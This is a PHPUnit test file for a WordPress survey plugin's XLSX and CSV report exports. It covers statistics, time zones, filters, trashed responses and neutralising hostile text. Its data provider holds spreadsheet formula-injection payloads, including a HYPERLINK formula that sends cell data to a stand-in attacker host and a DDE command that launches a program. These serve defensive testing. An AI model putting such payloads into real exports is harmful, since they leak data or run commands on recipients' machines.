<?php
/**
 * What the exported files hold.
 *
 * @package UserFeedback
 */

namespace UserFeedback\Tests\Export;

use PHPUnit\Framework\Attributes\DataProvider;

/**
 * Each report read back with OpenSpout's reader, in both formats: sheets, headers, counts and
 * percentages, times in a non-UTC site zone, checkbox ticks joined in option order, comment and
 * name columns, trashed responses left out unless asked, IP addresses only where the site stores
 * them, hostile texts neutralised, texts kept as texts.
 */
final class ReportsTest extends ExportTestCase {

	/**
	 * The main survey.
	 *
	 * @var int
	 */
	private int $survey_id = 0;

	/**
	 * Response ids by name.
	 *
	 * @var array<string, int>
	 */
	private array $ids = array();

	#[DataProvider( 'formats' )]
	public function test_the_general_report_has_a_summary_and_every_response( string $format ): void {
		$this->seed();
		$file   = $this->download(
			array(
				'survey_id' => $this->survey_id,
				'format'    => $format,
			)
		);
		$sheets = $this->sheets( $file['content'], $format );
		$this->assertSame( array( 'Summary', 'Responses' ), array_keys( $sheets ) );

		$summary = self::pairs( $sheets['Summary'] );
		$this->assertSame( 'Customer Feedback', $summary['Survey'] );
		$this->assertSame( 'General', $summary['Report'] );
		$this->assertSame( 'All time', $summary['Date range'] );
		$this->assertSame( 'Europe/Paris', $summary['Time zone'] );
		$this->assertEquals( 3, $summary['Responses'], 'published only' );
		$this->assertEquals( 66, $summary['NPS score'], 'promoters 66 % − detractors 0 %, floored as on screen' );
		$this->assertEquals( 66, $summary['Promoters (%)'] );
		$this->assertEquals( 33, $summary['Passives (%)'] );
		$this->assertEquals( 0, $summary['Detractors (%)'] );

		$stats = self::table( self::from_header( $sheets['Summary'], 'Question' ) );
		$this->assertSame( array( 'How often?', 'Multiple Choice', '3', '0', 'Daily', '2', '66.7' ), self::strings( $stats[0] ) );
		$this->assertSame( array( '', '', '', '', 'Weekly', '1', '33.3' ), self::strings( $stats[1] ) );
		$this->assertSame( array( 'Features', 'Checkboxes', '2', '1', 'Reports', '2', '100' ), self::strings( $stats[2] ), 'a checkbox share is of the responses that answered' );

		$rows = self::table( $sheets['Responses'] );
		$this->assertCount( 3, $rows, 'the trashed response is left out' );
		$this->assertSame(
			array( 'Response ID', 'Submitted at (Europe/Paris)', 'Status', 'Completed', 'Page title', 'Page URL', 'Device', 'Browser', 'Operating system', 'Language', 'IP address', 'How often?', 'Features', 'Features (comment)', 'Score', 'Score (comment)', 'Mail', 'Mail (name)', 'Why?', 'Tags', 'Notes' ),
			array_keys( $rows[0] )
		);
		$first = $rows[0];
		$this->assertEquals( $this->ids['r1'], $first['Response ID'] );
		$this->assertSame( '2026-03-10 10:00:00', $first['Submitted at (Europe/Paris)'], 'UTC+1 in winter' );
		$this->assertSame( 'Published', $first['Status'] );
		$this->assertSame( 'Yes', $first['Completed'] );
		$this->assertSame( 'Pricing', $first['Page title'] );
		$this->assertSame( 'https://example.com/pricing/', $first['Page URL'] );
		$this->assertSame( array( 'desktop', 'Chrome 120', 'Windows', 'fr_FR', '192.0.2.0' ), array( $first['Device'], $first['Browser'], $first['Operating system'], $first['Language'], $first['IP address'] ) );
		$this->assertSame( 'Daily', $first['How often?'] );
		$this->assertSame( 'Reports, Widget', $first['Features'], 'ticks joined in option order' );
		$this->assertSame( 'Need an API', $first['Features (comment)'] );
		$this->assertEquals( 10, $first['Score'] );
		$this->assertSame( 'Great', $first['Score (comment)'] );
		$this->assertSame( 'ann@example.com', $first['Mail'] );
		$this->assertSame( 'Ann', $first['Mail (name)'] );
		$this->assertSame( 'Fast', $first['Why?'] );

		$this->assertSame( '2026-07-01 11:00:00', $rows[1]['Submitted at (Europe/Paris)'], 'UTC+2 in summer' );
		$this->assertSame( 'Reports', $rows[1]['Features'] );
		$this->assertSame( '', $rows[1]['Mail'], 'skipped' );
		$this->assertSame( array( $this->ids['r1'], $this->ids['r2'], $this->ids['r3'] ), array_map( 'intval', array_column( $rows, 'Response ID' ) ), 'oldest first' );
	}

	#[DataProvider( 'formats' )]
	public function test_trashed_responses_are_listed_when_asked( string $format ): void {
		$this->seed();
		$file = $this->download(
			array(
				'survey_id'     => $this->survey_id,
				'format'        => $format,
				'include_trash' => '1',
			)
		);
		$rows = self::table( $this->sheets( $file['content'], $format )['Responses'] );
		$this->assertSame( array( $this->ids['r1'], $this->ids['r2'], $this->ids['trashed'], $this->ids['r3'] ), array_map( 'intval', array_column( $rows, 'Response ID' ) ), 'both statuses merged in time order' );
		$this->assertSame( 'Trash', $rows[2]['Status'] );
		$this->assertSame( 'Weekly', $rows[2]['How often?'] );
	}

	/**
	 * An export made from a filtered view holds the matching responses only — the
	 * statistics, the listed rows and the Summary's "Filter" line — in both formats, the Trash
	 * included when asked.
	 *
	 * @param string $format 'xlsx' or 'csv'.
	 */
	#[DataProvider( 'formats' )]
	public function test_the_results_filter_narrows_the_export( string $format ): void {
		$this->seed();
		$file    = $this->download(
			array(
				'survey_id'  => $this->survey_id,
				'format'     => $format,
				'nps_bucket' => 'promoter',
			)
		);
		$sheets  = $this->sheets( $file['content'], $format );
		$summary = self::pairs( $sheets['Summary'] );
		$this->assertSame( 'Promoters', $summary['Filter'] );
		$this->assertEquals( 2, $summary['Responses'], 'r1 (10) and r3 (9)' );
		$this->assertEquals( 100, $summary['NPS score'] );
		$rows = self::table( $sheets['Responses'] );
		$this->assertSame( array( $this->ids['r1'], $this->ids['r3'] ), array_map( 'intval', array_column( $rows, 'Response ID' ) ) );

		$file   = $this->download(
			array(
				'survey_id'     => $this->survey_id,
				'format'        => $format,
				'include_trash' => '1',
				'where'         => (string) wp_json_encode(
					array(
						array(
							'question_id' => 'often',
							'compare'     => '==',
							'value'       => 'Weekly',
						),
					)
				),
			)
		);
		$sheets = $this->sheets( $file['content'], $format );
		$this->assertSame( 'How often? is Weekly', self::pairs( $sheets['Summary'] )['Filter'] );
		$this->assertSame( array( $this->ids['trashed'], $this->ids['r3'] ), array_map( 'intval', array_column( self::table( $sheets['Responses'] ), 'Response ID' ) ), 'the trashed response that matches too' );
	}

	public function test_a_filter_the_survey_cannot_take_is_a_400_and_no_file(): void {
		$this->seed();
		$this->page()->handle(
			self::query(
				array(
					'survey_id' => $this->survey_id,
					'where'     => '[{"question_id":"often","compare":">","value":"Daily"}]',
				)
			)
		);
		$this->assertNull( $this->responder->file );
		$this->assertSame( 400, $this->responder->failure['status'] ?? null );
	}

	public function test_a_background_export_keeps_its_filter(): void {
		$request = \UserFeedback\Export\ExportRequest::parse(
			array(
				'survey_id' => '3',
				'device'    => 'mobile',
				'where'     => '[{"question_id":"q","compare":"==","value":"<b>"}]',
				'unrelated' => 'x',
			),
			current_datetime()
		);
		$this->assertInstanceOf( \UserFeedback\Export\ExportRequest::class, $request );
		$this->assertSame(
			array(
				'where'  => '[{"question_id":"q","compare":"==","value":"<b>"}]',
				'device' => 'mobile',
			),
			\UserFeedback\Export\ExportRequest::from_array( $request->to_array() )->filter
		);
	}

	/**
	 * Every response row says whether the visitor finished (Yes) or left a partial
	 * response (No), in both reports and both formats, trashed rows included.
	 *
	 * @param string $format 'xlsx' or 'csv'.
	 */
	#[DataProvider( 'formats' )]
	public function test_every_response_row_says_whether_it_is_completed( string $format ): void {
		$this->seed();
		$partial = $this->insert_response( $this->survey_id, '2026-07-02 09:00:00', array( array( 'often', 'Daily' ), array( 'features', array( 'Exports' ) ) ), 'publish', array( 'completed' => '0' ) );
		$trashed = $this->insert_response( $this->survey_id, '2026-07-02 10:00:00', array( array( 'features', array( 'Widget' ) ) ), 'trash', array( 'completed' => '0' ) );

		$general = self::table(
			$this->sheets(
				$this->download(
					array(
						'survey_id'     => $this->survey_id,
						'format'        => $format,
						'include_trash' => '1',
					)
				)['content'],
				$format
			)['Responses']
		);
		$this->assertSame( array( 'Response ID', 'Submitted at (Europe/Paris)', 'Status', 'Completed', 'Page title' ), array_slice( array_keys( $general[0] ), 0, 5 ), 'Completed follows Status' );
		$this->assertSame(
			array(
				$this->ids['r1']      => 'Yes',
				$this->ids['r2']      => 'Yes',
				$this->ids['trashed'] => 'Yes',
				$partial              => 'No',
				$trashed              => 'No',
				$this->ids['r3']      => 'Yes',
			),
			array_combine( array_map( 'intval', array_column( $general, 'Response ID' ) ), array_column( $general, 'Completed' ) )
		);
		$this->assertSame( 'Exports', $general[3]['Features'], 'a partial response keeps its answers' );
		$this->assertSame( '', $general[3]['Score'], 'and the questions it did not reach are empty' );

		$this->responder = new RecordingResponder();
		$answers         = self::table(
			$this->sheets(
				$this->download(
					array(
						'survey_id'   => $this->survey_id,
						'question_id' => 'features',
						'format'      => $format,
					)
				)['content'],
				$format
			)['Answers']
		);
		$this->assertSame(
			array(
				$this->ids['r1'] => 'Yes',
				$this->ids['r2'] => 'Yes',
				$partial         => 'No',
			),
			array_combine( array_map( 'intval', array_column( $answers, 'Response ID' ) ), array_column( $answers, 'Completed' ) ),
			'the question report too (published only: the trashed partial is left out)'
		);
	}

	/**
	 * The words are translatable: a translation of "Yes", "No" and "Completed" shows in the file.
	 */
	public function test_the_completed_column_is_translated(): void {
		$this->seed();
		$this->insert_response( $this->survey_id, '2026-07-02 09:00:00', array( array( 'often', 'Daily' ) ), 'publish', array( 'completed' => '0' ) );
		$translate = static function ( string $translation, string $text, string $domain ): string {
			$words = array(
				'Completed' => 'Terminée',
				'Yes'       => 'Oui',
				'No'        => 'Non',
			);
			return 'userfeedback' === $domain && isset( $words[ $text ] ) ? $words[ $text ] : $translation;
		};
		add_filter( 'gettext', $translate, 10, 3 );
		try {
			$rows = self::table( $this->sheets( $this->download( array( 'survey_id' => $this->survey_id ) )['content'], 'xlsx' )['Responses'] );
		} finally {
			remove_filter( 'gettext', $translate, 10 );
		}
		$this->assertSame( array( 'Oui', 'Oui', 'Non', 'Oui' ), array_column( $rows, 'Terminée' ) );
	}

	public function test_a_range_limits_the_rows_to_its_site_days(): void {
		$this->seed();
		$file = $this->download(
			array(
				'survey_id' => $this->survey_id,
				'start'     => '2026-07-01',
				'end'       => '2026-07-01',
			)
		);
		$this->assertSame( 'customer-feedback-general-2026-07-01-to-2026-07-01.xlsx', $file['name'] );
		$sheets = $this->sheets( $file['content'], 'xlsx' );
		$this->assertSame( '2026-07-01 to 2026-07-01', self::pairs( $sheets['Summary'] )['Date range'] );
		$this->assertSame( array( $this->ids['r2'] ), array_map( 'intval', array_column( self::table( $sheets['Responses'] ), 'Response ID' ) ) );
	}

	public function test_no_ip_column_when_the_site_stores_none(): void {
		$this->seed();
		userfeedback()->settings()->update( array( 'ip_storage' => 'none' ) );
		$rows = self::table( $this->sheets( $this->download( array( 'survey_id' => $this->survey_id ) )['content'], 'xlsx' )['Responses'] );
		$this->assertArrayNotHasKey( 'IP address', $rows[0] );
		$this->assertNotContains( '192.0.2.0', array_map( 'strval', $rows[0] ) );
	}

	/**
	 * Hostile or fragile texts and what the cell must hold.
	 *
	 * @return array<string, array{string, string}>
	 */
	public static function texts(): array {
		return array(
			'HYPERLINK'     => array( '=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' ),
			'plus'          => array( '+1', "'+1" ),
			'minus'         => array( '-2', "'-2" ),
			'at'            => array( '@SUM(A1)', "'@SUM(A1)" ),
			'tab'           => array( "\t=1", "'\t=1" ),
			'carriage'      => array( "\r=1", "'\n=1" ),
			'DDE'           => array( '=cmd|\' /C calc\'!A0', '\'=cmd|\' /C calc\'!A0' ),
			'unicode'       => array( 'Ünïcødé ✓ 日本語', 'Ünïcødé ✓ 日本語' ),
			'leading zeros' => array( '007', '007' ),
			'long number'   => array( '12345678901234567890', '12345678901234567890' ),
			'inner equals'  => array( 'a=b', 'a=b' ),
		);
	}

	/**
	 * Every text lands in its cell as text, and none can run.
	 *
	 * @param string $value    What the visitor typed.
	 * @param string $expected The cell.
	 */
	#[DataProvider( 'texts' )]
	public function test_texts_are_neutralised_and_kept_as_text( string $value, string $expected ): void {
		$id = $this->create_survey( '=Evil', array( self::question( 'why', 'long-text', '@Why' ), self::question( 'mail', 'email', '-Mail' ) + array( 'config' => array( 'include_name' => true ) ) ) );
		$this->insert_response( $id, '2026-03-10 09:00:00', array( array( 'why', $value ), array( 'mail', 'x@example.com', $value ) ), 'publish', array( 'page_title' => $value ) );
		foreach ( array( 'xlsx', 'csv' ) as $format ) {
			$this->responder = new RecordingResponder();
			$file            = $this->download(
				array(
					'survey_id' => $id,
					'format'    => $format,
				)
			);
			$sheets          = $this->sheets( $file['content'], $format );
			$row             = self::table( $sheets['Responses'] )[0];
			$this->assertSame( $expected, $row["'@Why"], "{$format}: answer" );
			$this->assertSame( $expected, $row["'-Mail (name)"], "{$format}: e-mail name" );
			$this->assertSame( $expected, $row['Page title'], "{$format}: page title" );
			$this->assertSame( "'=Evil", self::pairs( $sheets['Summary'] )['Survey'], "{$format}: survey title" );
		}
		$this->assertSame( 'evil-general-all-time.csv', $file['name'], 'only letters and digits name the file' );
	}

	#[DataProvider( 'formats' )]
	public function test_the_question_report_has_counts_and_the_answers( string $format ): void {
		$this->seed();
		$file = $this->download(
			array(
				'survey_id'   => $this->survey_id,
				'question_id' => 'features',
				'format'      => $format,
				'start'       => '2026-03-01',
				'end'         => '2026-07-31',
			)
		);
		$this->assertSame( "customer-feedback-question-features-2026-03-01-to-2026-07-31.{$format}", $file['name'] );
		$sheets  = $this->sheets( $file['content'], $format );
		$summary = self::pairs( $sheets['Summary'] );
		$this->assertSame( 'Features', $summary['Question'] );
		$this->assertSame( 'Checkboxes', $summary['Type'] );
		$this->assertEquals( 2, $summary['Answered'] );
		$this->assertEquals( 1, $summary['Skipped'] );
		$options = self::table( self::from_header( $sheets['Summary'], 'Option' ) );
		$this->assertSame(
			array(
				array( 'Reports', '2', '100' ),
				array( 'Exports', '0', '0' ),
				array( 'Widget', '1', '50' ),
			),
			array_map( array( self::class, 'strings' ), $options )
		);
		$answers = self::table( $sheets['Answers'] );
		$this->assertSame( array( 'Response ID', 'Submitted at (Europe/Paris)', 'Status', 'Completed', 'Answer', 'Comment' ), array_keys( $answers[0] ) );
		$this->assertSame( array( 'Reports, Widget', 'Reports' ), array_column( $answers, 'Answer' ) );
		$this->assertSame( 'Need an API', $answers[0]['Comment'] );
	}

	public function test_an_nps_question_export_lists_scores_as_numbers(): void {
		$this->seed();
		$sheets = $this->sheets(
			$this->download(
				array(
					'survey_id'   => $this->survey_id,
					'question_id' => 'score',
				)
			)['content'],
			'xlsx'
		);
		$this->assertSame( array( 10, 8, 9 ), array_column( self::table( $sheets['Answers'] ), 'Answer' ) );
		$options = self::table( self::from_header( $sheets['Summary'], 'Option' ) );
		$this->assertSame( range( 1, 10 ), array_column( $options, 'Option' ) );
	}

	#[DataProvider( 'formats' )]
	public function test_the_nps_report_has_the_score_and_the_daily_series( string $format ): void {
		$this->seed();
		$file = $this->download(
			array(
				'survey_id' => $this->survey_id,
				'report'    => 'nps',
				'format'    => $format,
				'start'     => '2026-07-01',
				'end'       => '2026-07-03',
			)
		);
		$this->assertSame( "customer-feedback-nps-2026-07-01-to-2026-07-03.{$format}", $file['name'] );
		$sheets  = $this->sheets( $file['content'], $format );
		$summary = self::pairs( $sheets['Summary'] );
		$this->assertSame( 'Score', $summary['Question'] );
		$daily = self::table( $sheets['Daily scores'] );
		$this->assertSame( array( 'Date', 'Answers', 'Promoters', 'Passives', 'Detractors', 'NPS score' ), array_keys( $daily[0] ) );
		$this->assertSame(
			array(
				array( '2026-07-01', '1', '0', '1', '0', '0' ),
				array( '2026-07-02', '0', '0', '0', '0', '' ),
				array( '2026-07-03', '1', '1', '0', '0', '100' ),
			),
			array_map( array( self::class, 'strings' ), $daily ),
			'every day of the range, empty days without a score'
		);
		$this->assertEquals( 50, $summary['NPS score'], '50 % promoters − 0 % detractors' );
		$this->assertEquals( 2, $summary['NPS answers'] );
	}

	public function test_a_survey_title_in_another_script_still_names_the_file(): void {
		$id   = $this->create_survey( 'Ünïcødé ✓ 日本語', array( self::question( 'why', 'text', 'Why?' ) ) );
		$file = $this->download( array( 'survey_id' => $id ) );
		$this->assertSame( 'unicode-general-all-time.xlsx', $file['name'] );
		$this->assertSame( 'Ünïcødé ✓ 日本語', self::pairs( $this->sheets( $file['content'], 'xlsx' )['Summary'] )['Survey'] );
	}

	/**
	 * The main survey: Europe/Paris, three published responses (winter, summer, summer) and one
	 * trashed.
	 *
	 * @return void
	 */
	private function seed(): void {
		$this->set_timezone( 'Europe/Paris' );
		$this->survey_id = $this->create_survey(
			'Customer Feedback',
			array(
				self::question( 'often', 'radio-button', 'How often?', array( 'Daily', 'Weekly' ) ),
				self::question( 'features', 'checkbox', 'Features', array( 'Reports', 'Exports', 'Widget' ) ) + array( 'settings' => array( 'comment_box' => true ) ),
				self::question( 'score', 'nps', 'Score' ) + array( 'settings' => array( 'comment_box' => true ) ),
				self::question( 'mail', 'email', 'Mail' ) + array( 'config' => array( 'include_name' => true ) ),
				self::question( 'why', 'long-text', 'Why?' ),
			),
			'nps'
		);
		$page            = array(
			'page_title'   => 'Pricing',
			'page_url'     => 'https://example.com/pricing/',
			'user_device'  => 'desktop',
			'user_browser' => 'Chrome 120',
			'user_os'      => 'Windows',
			'user_ip'      => '192.0.2.0',
			'language'     => 'fr_FR',
		);
		$this->ids       = array(
			'r1'      => $this->insert_response( $this->survey_id, '2026-03-10 09:00:00', array( array( 'often', 'Daily' ), array( 'features', array( 'Widget', 'Reports' ), 'Need an API' ), array( 'score', 10, 'Great' ), array( 'mail', 'ann@example.com', 'Ann' ), array( 'why', 'Fast' ) ), 'publish', $page ),
			'r2'      => $this->insert_response( $this->survey_id, '2026-07-01 09:00:00', array( array( 'often', 'Daily' ), array( 'features', array( 'Reports' ) ), array( 'score', 8 ) ) ),
			'trashed' => $this->insert_response( $this->survey_id, '2026-07-01 12:00:00', array( array( 'often', 'Weekly' ), array( 'score', 1 ) ), 'trash' ),
			'r3'      => $this->insert_response( $this->survey_id, '2026-07-03 09:00:00', array( array( 'often', 'Weekly' ), array( 'score', 9 ) ) ),
		);
	}
}
